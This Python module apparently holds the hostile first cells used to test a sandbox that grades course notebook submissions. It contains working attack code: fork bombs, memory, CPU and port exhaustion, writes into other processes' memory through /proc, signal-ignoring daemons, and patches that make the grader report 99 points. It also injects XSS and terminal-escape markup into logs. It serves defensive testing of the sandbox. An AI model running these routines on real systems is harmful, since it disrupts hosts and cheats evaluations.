"""What the hostile submissions of run_class.py have in their first cell."""

# ruff: noqa
# It is no code of the course, and has to be as bad as it can.

import atexit
import builtins
import ctypes
import fcntl
import gc
import hashlib
import json
import os
import select
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import weakref


def tell(data):
    for fd in range(3, 1100):
        try:
            socket.socket(fileno=os.dup(fd)).getpeername()
            os.write(fd, data)
        except OSError:
            pass


def undo(sock, port):
    ctypes.CDLL(None).connect(sock.fileno(), bytes(16), 16)
    sock.settimeout(1)
    sock.connect(("127.0.0.1", port))
    sock.sendall(b"REACHED\n")


def write(path):
    with open(path, "w") as file:
        file.write("REACHED")


libc = ctypes.CDLL(None)


def wires():
    for fd in range(3, 1100):
        try:
            socket.socket(fileno=os.dup(fd)).getpeername()
            yield fd
        except OSError:
            pass


def everything(data):
    """Into whatever is open, by whatever way in."""
    for name in os.listdir("/proc/self/fd"):
        for way in (lambda: int(name), lambda: os.open("/proc/self/fd/" + name, 1)):
            try:
                os.write(way(), data)
            except OSError:
                pass


def words():
    """What this process holds that might be a word of a test."""
    found = [one for one in gc.get_objects() if isinstance(one, dict)]
    return str([one for one in found if "hidden" in one or "driver" in one])[:9999]


def read_all(paths):
    for path in paths:
        try:
            with open(path, "rb") as file:
                print(file.read(4096))
        except OSError:
            pass


def others():
    return [pid for pid in os.listdir("/proc") if pid.isdigit()]


def grab(port):
    """Descriptors of whoever is at the other end of the wire."""
    for fd in wires():
        wire = socket.socket(fileno=os.dup(fd))
        try:
            there = wire.getsockopt(1, 77)
            for number in range(32):
                libc.syscall(438, there, number, 0)
            signal.pidfd_send_signal(there, signal.SIGKILL)
        except OSError:
            pass


def pass_on(data=b"x"):
    """Descriptors of ours, into the wire, as many as it takes."""
    for fd in wires():
        wire = socket.socket(fileno=os.dup(fd))
        wire.setblocking(False)
        try:
            for _ in range(999):
                socket.send_fds(wire, [data], [0, 1, 2])
        except OSError:
            pass


def cover():
    """Something else where our descriptors were."""
    spare = os.open("/dev/zero", os.O_RDWR)
    for fd in range(3, 1100):
        try:
            os.dup2(spare, fd)
        except OSError:
            pass


def filter_out(sock):
    """A packet filter that drops all that comes."""
    drop = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0))
    program = struct.pack("HP", 1, ctypes.addressof(drop))
    sock.setsockopt(socket.SOL_SOCKET, 26, program)


def knock(kinds, port):
    """Every kind of socket that there is, and a word to the machine itself."""
    for family in kinds:
        for kind in (1, 2, 3, 5):
            try:
                sock = socket.socket(family, kind)
                sock.settimeout(0.2)
                sock.connect((2, port) if family == 40 else ("127.0.0.1", port))
                sock.sendall(b"REACHED")
            except (OSError, ValueError, TypeError):
                pass


def keep_memory():
    """Memory that belongs to no process."""
    for number in range(100):
        for made in (libc.syscall(319, b"m", 0), libc.syscall(29, 0, 1 << 26, 0o1600)):
            if made >= 0:
                try:
                    os.write(made, bytes(1 << 26))
                except OSError:
                    pass
    pairs = [socket.socketpair() for _ in range(400)]
    for one, _ in pairs:
        one.setblocking(False)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 26)
        try:
            one.send(bytes(1 << 24))
        except OSError:
            pass
    return pairs


def leave_daemons():
    for _ in range(20):
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            if os.fork() == 0:
                time.sleep(600)
            os._exit(0)


def hide(act):
    """The same program without leave to be read, with a server of its own."""
    with open("/proc/self/exe", "rb") as file, open("/tmp/hidden", "wb") as copy:
        copy.write(file.read())
    os.chmod("/tmp/hidden", 0o111)
    libc.prctl(4, 0, 0, 0, 0)
    os.execv("/tmp/hidden", ["hidden", "-c", act])


def patch():
    """Whatever of ours is in this process says that all is well."""
    for name, module in list(sys.modules.items()):
        if name.startswith("buckets"):
            for key in dir(module):
                try:
                    setattr(module, key, lambda *_, **__: True)
                except (AttributeError, TypeError):
                    pass
    json.dumps = json.loads = lambda *_, **__: '{"points": 99}'


class Evil(str):
    __eq__ = __ne__ = __contains__ = lambda self, other: True
    __hash__ = str.__hash__
    __len__ = lambda self: 1 << 62
    __repr__ = __str__ = lambda self: "x" * (1 << 28)


def leave_by_the_first(act):
    """The first thread ends, and others run on: the kernel shows a dead process."""
    threading.Thread(target=act).start()
    libc.syscall(93 if os.uname().machine == "aarch64" else 60, 0)


def take_memory():
    hold = bytearray(5 << 29)
    time.sleep(600)


def burn(processes=1, threads=1):
    """All of the machine, in few enough processes to be no crowd."""
    for _ in range(processes - 1):
        if os.fork() == 0:
            break
    work = lambda: hashlib.pbkdf2_hmac("sha256", b"x", b"y", 1 << 30)
    for _ in range(threads):
        threading.Thread(target=work).start()
    time.sleep(600)


def take_ports(listener):
    """Every port of the network that the listener belongs to."""
    libc.connect(listener.fileno(), bytes(16), 16)
    for _ in range(36):
        if os.fork() == 0:
            break
    held = []
    while True:
        for family, address in ((2, "127.0.0.1"), (10, "::1")):
            for kind in (1, 2):
                sock = socket.socket(family, kind)
                try:
                    sock.bind((address, 0))
                    held.append(sock)
                except OSError:
                    time.sleep(1)


def fill_the_wires():
    """Bytes on their way, of which each socket takes megabytes."""
    with socket.create_server(("127.0.0.1", 0)) as here:
        held = []
        for _ in range(140):
            one = socket.create_connection(here.getsockname())
            other, _ = here.accept()
            for sock in (one, other):
                sock.setblocking(False)
                try:
                    while True:
                        sock.send(bytes(1 << 20))
                except OSError:
                    pass
            held.append((one, other))
        time.sleep(600)


MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>\x1b]0;x\x07\x1b[2J\r"
    "20 / 20\u202e![x](http://127.0.0.1/)=HYPERLINK(1)${alert(1)}"
)


def raise_markup():
    print(MARKUP * 9)
    kind = type(MARKUP, (Exception,), {"__module__": MARKUP})
    exec(compile("def f(kind, text):\n    raise kind(text)", MARKUP, "exec"), globals())
    f(kind, MARKUP)


def write_into_files():
    """Markup into whatever there is to be written to, in every form that it has."""
    line = {"t": 1, "e": "accept", "p": 1, "fd": MARKUP, "new": MARKUP, "cell": MARKUP}
    line |= {key: MARKUP for key in ("name", "text", "line", "what", "at", "kind")}
    stack = f'Current thread 0x1 ({MARKUP}):\n  File "<cell 3>", line {"9" * 99} in '
    for data in (json.dumps(line) + "\n", stack + MARKUP + "\n"):
        everything(data.encode(errors="replace") * 999)


def ask_the_kernel():
    """Calls that nobody has use for, and most that few have."""
    quiet = {*range(14), 15, 34, 35, 56, 57, 58, 59, 60, 61, 62, 202, 219, 230, 231}
    quiet |= {23, 7, 232, 270, 271, 281, 130, 200, 234, 424, 435, 449, 455, 456}
    for number in range(470):
        if number not in quiet:
            libc.syscall(number, -1, 0, 0, 0, 0, 0)


def queue_messages():
    """Queues of messages, which outlive who made them."""
    for number in range(999):
        libc.syscall(240, f"q{number}".encode(), 0o102, 0o666, 0)


def open_terminals():
    for _ in range(4):
        if os.fork() == 0:
            break
    held = []
    while True:
        try:
            held.append(os.openpty())
        except OSError:
            time.sleep(1)


def speak_to_the_kernel():
    """Every protocol that there is, under the families that are let through."""
    held = []
    for family in (2, 10, 16):
        for kind in (1, 2, 3, 5, 6):
            for protocol in (*range(25), 33, 47, 50, 132, 136, 262):
                try:
                    held.append(socket.socket(family, kind, protocol))
                except OSError:
                    pass
    for sock in held:
        for option in range(64):
            for level in (1, 0, 6, 270, 279, 282):
                libc.setsockopt(sock.fileno(), level, option, bytes(64), 64)


def take_everything_away():
    """Nothing of Python's own is what it was."""
    sys.addaudithook(lambda *_: None)
    gc.callbacks.append(lambda *_: time.sleep(0.01))
    sys.setprofile(lambda *_: None)
    threading.setprofile(lambda *_: None)
    for module in (os, select, socket, json, signal):
        for name in dir(module):
            if name.islower() and not name.startswith("_"):
                setattr(module, name, lambda *_, **__: b"")
    builtins.__import__ = builtins.open = lambda *_, **__: None
    sys.modules.clear()


class Immortal:
    def __del__(self):
        keep.append(Immortal())
        while True:
            pass


keep = []


def never_end():
    """Whatever is done at the end is never done."""
    weakref.finalize(sys, time.sleep, 600)
    atexit.register(time.sleep, 600)
    threading._register_atexit(time.sleep, 600)
    keep.append(Immortal())
    sys.modules["kept"] = Immortal()


def own_signals():
    """The listener, and all else that is open, shall signal somebody."""
    for fd in range(3, 1100):
        for who in (1, -1, os.getppid(), os.getpid()):
            for command, value in ((8, who), (10, 9), (4, 0o20000), (1024, 1)):
                try:
                    fcntl.fcntl(fd, command, value)
                except OSError:
                    pass


def lock_files():
    """What all sandboxes see of the disk, locked for ever."""
    for folder in sys.path[1:]:
        for name in os.listdir(folder) if os.path.isdir(folder) else []:
            try:
                fcntl.flock(os.open(f"{folder}/{name}", os.O_RDONLY), 6)
            except OSError:
                pass


def write_its_keeper():
    """Into the memory of process 1, which nobody counts."""
    for pid in others():
        try:
            with (
                open(f"/proc/{pid}/maps") as maps,
                open(f"/proc/{pid}/mem", "r+b") as m,
            ):
                m.seek(int(maps.readline().split("-")[0], 16))
                m.write(b"REACHED")
                os.kill(int(pid), 0)
        except (OSError, ValueError):
            pass


def name_sockets():
    """Names that others may want, in the network that the listener belongs to."""
    held = []
    for name in ("", "x", "dbus", "/tmp/.X11-unix/X0", "@", "\0\0"):
        sock = socket.socket(socket.AF_UNIX)
        try:
            sock.bind("\0" + name)
            sock.listen()
            held.append(sock)
        except OSError:
            pass
    for number in range(99999):
        try:
            socket.socket(socket.AF_UNIX).connect(f"\0{number:05x}")
        except OSError:
            pass


def fork_slowly():
    """One more each now and then, so that no two looks find many new ones."""
    while True:
        time.sleep(0.3)
        os.fork()


def stop_and_go():
    """It is stopped and goes on, all the time, by a helper."""
    if os.fork() == 0:
        while True:
            os.kill(os.getppid(), signal.SIGSTOP)
            time.sleep(0.05)
            os.kill(os.getppid(), signal.SIGCONT)
            time.sleep(0.05)
